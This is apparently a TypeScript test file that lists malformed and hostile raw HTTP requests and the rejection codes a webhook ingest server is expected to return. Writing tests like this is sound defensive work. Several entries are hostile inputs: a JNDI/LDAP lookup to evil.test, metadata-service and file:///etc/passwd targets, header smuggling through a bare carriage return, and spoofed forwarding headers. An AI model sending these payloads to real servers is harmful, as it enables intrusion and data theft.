import { type BadRequest, type Bytes, bad, type ExpectedAnswer } from '../bad-request.ts'
import { chunked, type Headers, message, PATH, unsignedPost } from '../raw-request.ts'

/** Bytes that are no HTTP/1.1. */
const noHttp = (name: string, write: (canary: string) => Bytes, answer: ExpectedAnswer = '400 bad_request') =>
  bad(name, answer, write)

/** An unsigned request with these lines among its headers, as they are. */
const withLine = (name: string, write: (canary: string) => Bytes, answer: ExpectedAnswer = '400 bad_request') =>
  bad(name, answer, (canary) =>
    Buffer.concat(
      [
        `POST ${PATH} HTTP/1.1\r\nhost: ingest.test\r\nconnection: close\r\n`,
        write(canary),
        '\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}',
      ].map((part) => Buffer.from(part)),
    ),
  )

const startLine = (name: string, line: string, answer: ExpectedAnswer = '400 bad_request') =>
  bad(name, answer, (canary) => message(line, { host: 'ingest.test', connection: 'close', 'user-agent': canary }))

const withHeaders = (name: string, answer: ExpectedAnswer, headers: (canary: string) => Headers) =>
  bad(name, answer, (canary) => unsignedPost({ canary, headers: headers(canary) }))

export const httpSyntax: readonly BadRequest[] = [
  noHttp('a word', (canary) => `${canary}\r\n\r\n`),
  noHttp('a line feed without end', (canary) => `\n\n\n\n\n${canary}\n\n`),
  noHttp('NULs', (canary) => `\0\0\0\0${canary}`),
  noHttp('a greeting of TLS', (canary) =>
    Buffer.concat([Buffer.from('16030100c8010000c40303', 'hex'), Buffer.from(canary)]),
  ),
  noHttp('a greeting of SSH', (canary) => `SSH-2.0-${canary}\r\n`),
  noHttp('a greeting of SMTP', (canary) => `EHLO ${canary}\r\n`),
  noHttp('a command of Redis', (canary) => `*1\r\n$4\r\n${canary}\r\n`),
  noHttp('a request of Kafka', (canary) =>
    Buffer.concat([Buffer.from([0, 0, 0, 20, 0, 18, 0, 0, 0, 0, 0, 1]), Buffer.from(canary)]),
  ),
  noHttp(
    'a header of the PROXY protocol',
    (canary) => `PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\nGET /${canary} HTTP/1.1\r\n\r\n`,
  ),
  noHttp('the preface of HTTP/2', (canary) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${canary}`),
  noHttp('an answer in place of a request', (canary) => `HTTP/1.1 200 OK\r\nserver: ${canary}\r\n\r\n`),

  startLine('HTTP/0.9', `GET ${PATH}`),
  startLine('HTTP/1.2', `GET ${PATH} HTTP/1.2`),
  startLine('HTTP/2.0 in a request line', `GET ${PATH} HTTP/2.0`),
  startLine('HTTP/9.9', `GET ${PATH} HTTP/9.9`),
  startLine('a version of two digits', `GET ${PATH} HTTP/1.11`),
  startLine('a version without a number', `GET ${PATH} HTTP/`),
  startLine('a protocol in lower case', `GET ${PATH} http/1.1`),
  startLine('another protocol', `GET ${PATH} ICAP/1.0`),
  startLine('a target with a blank', `GET /api webhooks HTTP/1.1`),
  startLine('no target', 'GET HTTP/1.1'),
  startLine('an empty target', 'GET  HTTP/1.1'),
  startLine('a tab for the blank', `GET\t${PATH}\tHTTP/1.1`),
  startLine('a target without a slash', 'GET api/webhooks HTTP/1.1'),
  startLine('a target with bytes beyond ASCII', 'GET /api/w\u00e9bhooks HTTP/1.1'),
  startLine('a target with a NUL', 'GET /api\0/webhooks HTTP/1.1'),
  startLine('a carriage return in the target', 'GET /api\rwebhooks HTTP/1.1'),
  startLine('a star as target', 'GET * HTTP/1.1', '404 not_found'),
  startLine('the whole server as target', 'OPTIONS * HTTP/1.1', '404 not_found'),
  startLine('an absolute target elsewhere', 'GET http://169.254.169.254/latest/meta-data HTTP/1.1', '404 not_found'),
  startLine('an absolute target with a password', 'GET http://user:secret@ingest.test/ HTTP/1.1', '404 not_found'),
  startLine('a file as target', 'GET file:///etc/passwd HTTP/1.1', '404 not_found'),

  bad('no host', '400 bad_request', (canary) => message(`GET ${PATH} HTTP/1.1`, { 'user-agent': canary })),
  withHeaders('two hosts', '400 bad_request', (canary) => ({ host: ['ingest.test', `${canary}.test`] })),
  withHeaders('one host twice', '400 bad_request', () => ({ host: ['ingest.test', 'ingest.test'] })),
  withHeaders('a host with a path', '401 missing_signature', (canary) => ({ host: `ingest.test/${canary}` })),
  withHeaders('a host of several', '400 bad_request', () => ({ host: 'ingest.test, admin.test' })),
  withHeaders('a host with a name and password', '401 missing_signature', () => ({ host: 'user:secret@ingest.test' })),
  withHeaders('a host that is the metadata service', '401 missing_signature', () => ({ host: '169.254.169.254' })),
  withHeaders('an empty host', '401 missing_signature', () => ({ host: '' })),

  withLine('a header without a colon', (canary) => canary),
  withLine('a header without a name', (canary) => `: ${canary}`),
  withLine('a blank before the colon', (canary) => `x-note : ${canary}`),
  withLine('a blank before the name', (canary) => ` x-note: ${canary}`),
  withLine('a blank inside the name', (canary) => `x note: ${canary}`),
  withLine('a header that goes on in the next line', (canary) => `x-note: a\r\n ${canary}`),
  withLine('a name with a parenthesis', (canary) => `x-(note): ${canary}`),
  withLine('a name beyond ASCII', (canary) => `x-n\u00f6te: ${canary}`),
  withLine('a name with a NUL', (canary) => `x-\0note: ${canary}`),
  withLine('a value with a NUL', (canary) => `x-note: ${canary}\0`),
  withLine('a value with a bell', (canary) => `x-note: ${canary}\x07`),
  withLine('a value with the delete character', (canary) => `x-note: ${canary}\x7f`),
  withLine('a carriage return alone in a value', (canary) => `x-note: a\rx-signature: ${canary}`),
  withLine('a line feed alone at the end of a line', (canary) => `x-note: ${canary}\nx-other: 1`),
  withLine('a carriage return alone at the end of a line', (canary) => `x-note: ${canary}\r\r`),
  withLine('a header of 17,000 bytes', (canary) => `x-note: ${canary}${'x'.repeat(17_000)}`, '431 headers_too_large'),
  withLine('a name of 17,000 bytes', (canary) => `${'x'.repeat(17_000)}: ${canary}`, '431 headers_too_large'),
  withLine(
    'two thousand headers of 20 bytes',
    (canary) => `x-note: ${canary}${'\r\nx-note: 1234567890'.repeat(2_000)}`,
    '431 headers_too_large',
  ),

  withHeaders('noise of a browser', '401 missing_signature', (canary) => ({
    cookie: `session=${canary}; __Host-x=1`,
    origin: 'https://evil.test',
    referer: `https://evil.test/${canary}`,
    'sec-fetch-site': 'cross-site',
  })),
  withHeaders('a basic authorization', '401 missing_signature', (canary) => ({
    authorization: `Basic ${Buffer.from(`admin:${canary}`).toString('base64')}`,
  })),
  withHeaders('an authorization in two headers', '401 missing_signature', (canary) => ({
    authorization: [`Bearer ${canary}`, 'Bearer other'],
  })),
  withHeaders('a proxy authorization', '401 missing_signature', (canary) => ({
    'proxy-authorization': `Basic ${canary}`,
  })),
  withHeaders('a client that says where it comes from', '401 missing_signature', (canary) => ({
    'x-forwarded-for': `127.0.0.1, ${canary}`,
    'x-real-ip': '127.0.0.1',
    forwarded: 'for=127.0.0.1;proto=https',
  })),
  withHeaders('a method in a header', '401 missing_signature', () => ({ 'x-http-method-override': 'GET' })),
  withHeaders('an address in a header', '401 missing_signature', (canary) => ({
    'x-original-url': `/${canary}`,
    'x-rewrite-url': '/openapi.json',
  })),
  withHeaders('headers named as fields of every object', '401 missing_signature', (canary) => ({
    __proto__x: canary,
    constructor: canary,
    'has-own-property': '1',
  })),
  withHeaders('a lookup in a log line', '401 missing_signature', (canary) => ({
    'user-agent': `\${jndi:ldap://evil.test/${canary}}`,
  })),
  withHeaders('trace context that is none', '401 missing_signature', (canary) => ({
    traceparent: `00-${canary}-x-01`,
    tracestate: 'a=b'.repeat(500),
  })),

  withHeaders('an upgrade to WebSocket', '401 missing_signature', () => ({
    connection: 'close, upgrade',
    upgrade: 'websocket',
    'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
    'sec-websocket-version': '13',
  })),
  withHeaders('an upgrade to HTTP/2', '401 missing_signature', () => ({
    connection: 'close, upgrade, http2-settings',
    upgrade: 'h2c',
    'http2-settings': 'AAMAAABkAARAAAAAAAIAAAAA',
  })),
  withHeaders('an upgrade to TLS', '401 missing_signature', () => ({
    connection: 'close, upgrade',
    upgrade: 'TLS/1.2',
  })),
  withHeaders('a wish to send more that is none', '417', () => ({ expect: '200-ok' })),
  bad('a wish to go on that is asked of an unsigned request', ['100', '401 missing_signature'], (canary) =>
    unsignedPost({ canary, headers: { expect: '100-continue' } }),
  ),
  bad('a wish to go on with a body that is too large', '413 payload_too_large', (canary) =>
    unsignedPost({ canary, headers: { expect: '100-continue', 'content-length': '300000' } }),
  ),
  bad('a chunked body that is compressed on its way', '415 unsupported_media_type', (canary) =>
    unsignedPost({
      canary,
      body: chunked('\x1f\x8b'),
      headers: { 'content-length': undefined, 'transfer-encoding': 'gzip, chunked' },
    }),
  ),
]
